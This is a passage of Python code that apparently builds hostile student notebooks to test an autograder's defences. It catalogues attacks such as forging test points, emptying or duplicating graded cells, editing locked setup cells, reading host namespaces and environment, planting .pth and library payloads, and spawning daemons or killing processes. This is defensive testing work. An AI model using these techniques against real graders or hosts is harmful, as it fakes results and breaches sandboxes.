           "wrong_rf": nb(rf=body(source_nb, RF, WRONG_RF)),
           "wrong_conv": nb(conv=wrong_conv),
           "wrong_both": nb(rf=body(source_nb, RF, WRONG_RF), conv=wrong_conv)}
    baseline = {}

    for name, (at_call, after) in A_ATTACKS.items():
        kit = KIT + FAKES + LOOT_CLASS
        out[name] = nb(rf=rf(at_call, after, kit))
        baseline[name] = "wrong_rf"
    # the setup cell (locked, run by the grader) edited to rebind the helpers to no-ops, and a locked
    # cell the student adds after it: code that must never run where the tests run
    edited = nb(rf=body(source_nb, RF, WRONG_RF))
    setup = next(c for c in edited.cells if nc.nbgrader(c).get("grade_id") == "setup")
    setup.source += "\n" + NO_OP_HELPERS
    out["a_setup_edited"] = edited
    added = nb(rf=body(source_nb, RF, WRONG_RF))
    cell = nc.nbformat.v4.new_code_cell(NO_OP_HELPERS)
    cell.metadata["nbgrader"] = {"grade": False, "grade_id": "setup_more", "locked": True, "schema_version": 3,
                                 "solution": False, "task": False}
    added.cells.insert(added.cells.index(next(c for c in added.cells if nc.nbgrader(c).get("grade_id") == "setup"))
                       + 1, cell)
    out["a_locked_cell_added"] = added
    baseline["a_setup_edited"] = baseline["a_locked_cell_added"] = "wrong_rf"
    for name, (at_call, after) in B_ATTACKS.items():
        out[name] = nb(rf=rf(at_call, after, LOOT_CLASS))
        baseline[name] = "wrong_rf"
    # a cell the student adds, marked as a graded test worth 100 points
    extra = nb(rf=body(source_nb, RF, WRONG_RF), append=["print('bonus')"])
    extra.cells[-1].metadata["nbgrader"] = dict(GRADED_CELL)
    out["b_extra_graded_cell"] = extra
    baseline["b_extra_graded_cell"] = "wrong_rf"
    # a visible test cell re-pointed: its source emptied and its points raised to 100
    forged = nb(rf=body(source_nb, RF, WRONG_RF))
    for cell in forged.cells:
        if nc.nbgrader(cell).get("grade_id") == RF_TESTS[0]:
            cell.source = "pass"
            cell.metadata["nbgrader"]["points"] = 100
    out["b_points_forged"] = forged
    baseline["b_points_forged"] = "wrong_rf"
    # a test cell duplicated (same grade id and metadata) with its source emptied, right after the original
    duplicated = nb(rf=body(source_nb, RF, WRONG_RF))
    for i, cell in enumerate(duplicated.cells):
        if nc.nbgrader(cell).get("grade_id") == RF_TESTS[0]:
            twin = copy.deepcopy(cell)
            twin.source = "pass"
            twin["id"] = "duplicate-test"
            duplicated.cells.insert(i + 1, twin)
            break
    out["b_duplicate_test_cell"] = duplicated
    baseline["b_duplicate_test_cell"] = "wrong_rf"

    host_ns = os.readlink("/proc/self/ns/mnt") if os.path.exists("/proc/self/ns/mnt") else "unknown"
    kit = KIT + LOOT_CLASS + consts + f"HOST_MNT_NS = {host_ns!r}\n" + _sub(PATHS, **values)
    out["c_frames"] = nb(rf=rf(C_FRAMES, "", kit))
    out["c_kernel"] = nb(rf=rf(C_KERNEL, "", kit))
    out["c_pre_run_cell"] = nb(rf=rf(RAISE_LOOT, C_PRE_RUN, kit))
    for name, code in (("c_git", C_GIT), ("c_files", C_FILES), ("c_walk", C_WALK), ("c_unmount", C_UNMOUNT),
                       ("c_proc_root", C_PROC), ("c_environ", C_ENV)):
        out[name] = nb(rf=rf(RAISE_LOOT, code, kit))
    for name in [n for n in out if n.startswith("c_")]:
        baseline[name] = "wrong_rf"

    payload = _sub(COURSE_LIB_PAYLOAD, **values)
    out["d_pth"] = nb(rf=rf("", D_PTH, kit))
    out["d_course_lib"] = nb(rf=rf("", D_COURSE_LIB, kit + f"PAYLOAD = {payload!r}\n"))
    out["d_course_files"] = nb(rf=rf("", D_COURSE_FILES, kit + f"CONFIG_LINE = {config_line(base, run)!r}\n"))
    for name in ("d_pth", "d_course_lib", "d_course_files"):
        baseline[name] = "wrong_rf"

    # E: notebooks that are not notebooks (bytes, written as they are), and one over 50 MB
    out["e_not_json"] = b"this is not a notebook {"
    out["e_json_not_notebook"] = json.dumps({"hello": [1, 2, 3], "cells": "none"}).encode()
    numeric = json.loads(nc.nbformat.writes(nb(rf=body(source_nb, RF, WRONG_RF), conv=wrong_conv)))
    numeric["cells"][-1]["source"] = 42
    out["e_source_is_a_number"] = json.dumps(numeric).encode()
    huge = nb(rf=body(source_nb, RF, WRONG_RF), conv=wrong_conv)
    huge.cells.append(nc.nbformat.v4.new_markdown_cell("x" * (51 * 2**20)))
    out["e_huge"] = huge
    for name in ("e_not_json", "e_json_not_notebook", "e_source_is_a_number", "e_huge"):
        baseline[name] = "zero"
    out["e_protocol_garbage"] = nb(rf=rf("", E_PROTOCOL, ""))
    out["e_huge_reply"] = nb(rf=rf(E_HUGE_REPLY, "", ""))
    baseline["e_protocol_garbage"] = baseline["e_huge_reply"] = "wrong_rf"

    html = _sub(HTML_PAYLOAD, **values)
    f_html = nb(rf=rf(_sub("print(PAYLOAD)\nraise HostileLoot(PAYLOAD)\n", **values), F_HTML,
                      LOOT_CLASS + f"PAYLOAD = {html!r}\n"))
    f_html.cells.append(nc.nbformat.v4.new_markdown_cell("Notes\n\n" + html))
    out["f_html"] = f_html
    out["f_escapes"] = nb(rf=rf("print(ESCAPES)\nraise HostileLoot(ESCAPES)\n", "print(ESCAPES)\n",
                                LOOT_CLASS + f"ESCAPES = {ESCAPES!r}\n"))
    out["f_disk"] = nb(rf=rf("", F_DISK, ""))
    out["f_socket"] = nb(rf=rf("", F_SOCKET, f"SOCKET_PATH, TCP_PORT = {socket_path!r}, {tcp_port!r}\n"))
    out["f_daemon"] = nb(rf=rf("", F_DAEMON, f"DAEMON = {_sub(DAEMON_CODE, **values)!r}\n"))
    host_pid_ns = os.readlink("/proc/self/ns/pid") if os.path.exists("/proc/self/ns/pid") else "unknown"
    out["f_kill"] = nb(rf=rf("", F_KILL, f"HOST_PID_NS = {host_pid_ns!r}\n"))
    for name in F_NAMES:
        baseline[name] = "wrong_rf"
    # the attacks run at call time are inside the function: the a_exit_fake process dies in the
    # first test of receptive_field_of_stack, after conv_output_size's tests (baseline wrong_rf)
    return out, baseline


C_NAMES = ("c_frames", "c_kernel", "c_pre_run_cell", "c_git", "c_files", "c_walk", "c_unmount", "c_proc_root",
           "c_environ")
D_NAMES = ("d_pth", "d_course_lib", "d_course_files")
E_NAMES = ("e_not_json", "e_json_not_notebook", "e_source_is_a_number", "e_huge", "e_protocol_garbage",
           "e_huge_reply")
F_NAMES = ("f_html", "f_escapes", "f_disk", "f_socket", "f_daemon", "f_kill")


def hostile_names() -> list[str]:
    """The hostile students :func:`build` makes, in its order (without building them)."""
    return [*A_ATTACKS, "a_setup_edited", "a_locked_cell_added", *B_ATTACKS, "b_extra_graded_cell",
            "b_points_forged", "b_duplicate_test_cell", *C_NAMES, *D_NAMES, *E_NAMES, *F_NAMES]


def write_submission(folder, student: str, notebook) -> None:
    """``folder/<student>.ipynb``: a notebook, or bytes as they are."""
    path = folder / f"{student}.ipynb"
    if isinstance(notebook, bytes):
        path.write_bytes(notebook)
    else:
        nc.nbformat.write(notebook, path)
